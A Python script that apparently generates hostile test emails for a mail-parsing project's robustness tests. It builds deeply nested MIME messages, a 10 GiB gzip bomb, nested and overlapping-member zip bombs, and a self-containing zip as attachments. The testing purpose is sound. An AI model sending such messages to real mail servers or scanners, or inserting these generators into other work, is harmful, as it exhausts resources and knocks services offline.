"""Messages that are made to be too much: bombs.py FOLDER

Writes each as FOLDER/NAME.eml. The standard library alone; nothing is unpacked here.
"""
import base64
import io
import pathlib
import struct
import sys
import zipfile
import zlib

folder = pathlib.Path(sys.argv[1])
HEAD = b"From: carol@elsewhere.example\r\nMIME-Version: 1.0\r\n"


def write(name, *pieces):
    with open(folder / (name + ".eml"), "wb") as out:
        out.write(b"Subject: " + name.encode() + b"\r\n" + HEAD)
        for piece in pieces:
            out.write(piece)


def attached(name, file, data):
    write(
        name,
        b"Content-Type: multipart/mixed; boundary=b\r\n\r\n--b\r\n"
        b'Content-Type: application/octet-stream; name="' + file + b'"\r\n'
        b"Content-Transfer-Encoding: base64\r\n\r\n",
        base64.encodebytes(data).replace(b"\n", b"\r\n"),
        b"--b--\r\n",
    )


def zeros(size, wbits):
    """`size` zeros, compressed without ever being held."""
    packer = zlib.compressobj(9, zlib.DEFLATED, wbits)
    out, piece = bytearray(), bytes(1 << 24)
    for _ in range(size >> 24):
        out += packer.compress(piece)
    return bytes(out + packer.flush())


def zipped(members):
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in members:
            archive.writestr(name, data)
    return out.getvalue()


def overlapping(count):
    """A zip whose members are all the same bytes (after D. Fifield, 2019)."""
    kernel = zeros(1 << 26, -15)
    crc = 0
    for _ in range(4):
        crc = zlib.crc32(bytes(1 << 24), crc)
    facts = struct.pack("<HHHHHIII", 20, 0, 8, 0, 33, crc, len(kernel), 1 << 26)
    local = b"PK\3\4" + facts + struct.pack("<HH", 1, 0) + b"a" + kernel
    entry = b"PK\1\2" + struct.pack("<H", 20) + facts
    entry += struct.pack("<HHHHHII", 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = struct.pack("<HHHHIIH", 0, 0, count, count, len(entry) * count, len(local), 0)
    return local + entry * count + b"PK\5\6" + end


def matryoshka(levels, width):
    """Archives in archives, `width` in each (after 42.zip)."""
    data = zipped([("zeros", bytes(1 << 24))])
    for _ in range(levels):
        data = zipped([(f"{n}.zip", data) for n in range(width)])
    return data


deep = b"".join(b"Content-Type: multipart/mixed; boundary=b%d\r\n\r\n--b%d\r\n" % (n, n)
                for n in range(10_000))
write("deep", deep, b"\r\nhello\r\n")
write("deep_messages", b"Content-Type: message/rfc822\r\n\r\n" * 10_000, b"\r\n\r\nhello\r\n")
write("parts", b"Content-Type: multipart/mixed; boundary=b\r\n\r\n",
      b"--b\r\n\r\nx\r\n" * 1_000_000, b"--b--\r\n")
write("parameters", b"Content-Type: text/plain", b";\r\n a=b" * 1_000_000, b"\r\n\r\nhello\r\n")
attached("gzip", b"zeros.gz", zeros(10 << 30, 31))
attached("zip_of_zips", b"42.zip", matryoshka(5, 16))
attached("overlap", b"overlap.zip", overlapping(1_000))
# A zip that contains itself, without end.
samples = pathlib.Path(__file__).parents[2] / "crates/content/tests/samples"
attached("quine", b"quine.zip", (samples / "quine.zip").read_bytes())
